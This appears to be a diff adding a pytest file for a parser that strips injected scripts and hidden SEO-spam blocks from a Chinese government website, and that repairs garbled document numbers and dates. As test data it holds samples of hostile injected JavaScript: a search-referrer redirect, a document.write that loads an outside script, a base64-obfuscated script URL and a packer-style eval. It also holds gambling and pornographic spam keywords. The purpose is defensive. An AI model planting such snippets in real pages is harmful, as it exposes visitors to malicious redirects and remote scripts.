@@ -1,0 +1,113 @@
+"""What stands beside the text (hidden parts, scripts) is judged of all at once, as one by one."""
+
+from __future__ import annotations
+
+import random
+
+import pytest
+
+from parsers.cleaning import clean
+from parsers.cleaning.damage import mend_document_numbers
+from parsers.cleaning.injected import cut_injected_scripts
+from parsers.cleaning.lost_digits import mend_text
+from parsers.extract.visibility import SHEET
+from parsers.items import Block, Document, Link
+from tests.parsers.pages import page_of
+
+SEED = 20261123
+TAB = f"{SHEET}display:none"
+# What each does to a page of www.lf.gov.cn is known of each alone.
+SCRIPTS = (
+    "if(/baidu|sogou/.test(document.referrer)){location='//a.top/'}",
+    "document.write(unescape('%3Cscript src=//b365.vip/x.js%3E'))",
+    "src=//3k9.a1.top/t.js",
+    "src=//www.lf.gov.cn/t.js",
+    "var hits = 3;",
+    "el.src = '//ta' + 'x.conac.cn/'",
+    'atob("Ly93d3cuYS50b3AvdC5qcw==")',
+    "eval(function(p,a,c,k,e,d){return document.title})",
+    "line one\nline two",
+)
+
+
+def document(*blocks, scripts=()):
+    return Document(page_of(""), "text/html", "utf-8", blocks=blocks, scripts=scripts)
+
+
+def test_of_many_scripts_those_go_that_would_go_alone():
+    chance = random.Random(SEED)
+    print("seed", SEED)
+    alone = {each: cut_injected_scripts((each,), "www.lf.gov.cn") for each in SCRIPTS}
+    assert {each for each, (left, _) in alone.items() if not left} >= {*SCRIPTS[:3]}
+    for _ in range(50):
+        scripts = tuple(chance.choices(SCRIPTS, k=8))
+        left, cuts = cut_injected_scripts(scripts, "www.lf.gov.cn")
+        assert left == tuple(each for each in scripts if alone[each][0])
+        assert cuts == [cut for each in scripts for cut in alone[each][1]]
+
+
+def test_scripts_that_stay_are_the_same_tuple():
+    honest = SCRIPTS[3:5]
+    assert cut_injected_scripts(honest, "www.lf.gov.cn") == (honest, [])
+    assert cut_injected_scripts(honest, "www.lf.gov.cn")[0] is honest
+
+
+@pytest.mark.parametrize(
+    ("block", "shown"),
+    [
+        (Block("依申请公开情况", hidden=TAB), True),
+        (Block("皇冠体育", hidden=TAB), False),
+        (Block("更多", links=(Link("http://a1.top/", "更多"),), hidden=TAB), False),
+        (Block("更多", links=(Link("http://www.lf.gov.cn/", "更多"),), hidden=TAB), True),
+        (Block("依申请公开情况", hidden=f"{SHEET}colour on colour"), False),
+        (Block("依申请公开情况", hidden="display:none"), False),
+    ],
+)
+def test_a_tab_is_shown_where_it_sells_nothing(block, shown):
+    said = Block("2014年共主动公开政府信息300条，其中网站公开200条。")
+    cleaned = clean(document(said, block, said, said), None).document
+    assert [each.text for each in cleaned.blocks if each.text != said.text] == [block.text] * shown
+    assert not any(each.hidden for each in cleaned.blocks)
+
+
+def test_a_tab_whose_farm_went_is_shown_in_the_next_round():
+    farm = "久久热|国产精品|亚洲无码|成人视频|在线播放"
+    blocks = [Block(f"2014年共主动公开政府信息{n}条。") for n in range(60)]
+    tab = Block(f"本年度收到政府信息公开申请12件。{farm}", hidden=TAB, main=False)
+    cleaned = clean(document(*blocks, tab), None).document
+    again = clean(cleaned, None)
+    assert again.document == cleaned
+
+
+@pytest.mark.parametrize(
+    ("text", "mended"),
+    [
+        ("廊政〔20141号，廊政〔20142号", "廊政〔2014〕1号，廊政〔2014〕2号"),
+        ("廊政〔2014〕1号", "廊政〔2014〕1号"),
+        ("〔20000", "〔2000〕0号"),
+        ("廊政办2014〕12号", "廊政办〔2014〕12号"),
+        ("2014〕12号", "2014〕12号"),
+        ("(廊政办201412)", "(廊政办〔2014〕12号)"),
+        ("(共计201412)", "(共计201412)"),
+    ],
+)
+def test_a_document_number_has_its_brackets_again(text, mended):
+    assert mend_document_numbers(text)[0] == mended
+
+
+@pytest.mark.parametrize(
+    ("text", "mended", "quotes"),
+    [
+        (
+            "自201411日至1231日，自201311日至1231日",
+            "自2014年1月1日至12月31日，自2013年1月1日至12月31日",
+            ["201411日", "201311日", "1231日", "1231日"],
+        ),
+        ("200099日-99日", "2000年9月9日-99日", ["200099日", "99日"]),
+        ("2014年1月1日至3131日", "2014年1月1日至3131日", ["3131日"]),
+    ],
+)
+def test_a_period_has_its_months_again_where_they_can_be_read(text, mended, quotes):
+    made, cuts = mend_text(text, 2014)
+    assert made == mended
+    assert [cut.quote for cut in cuts] == quotes
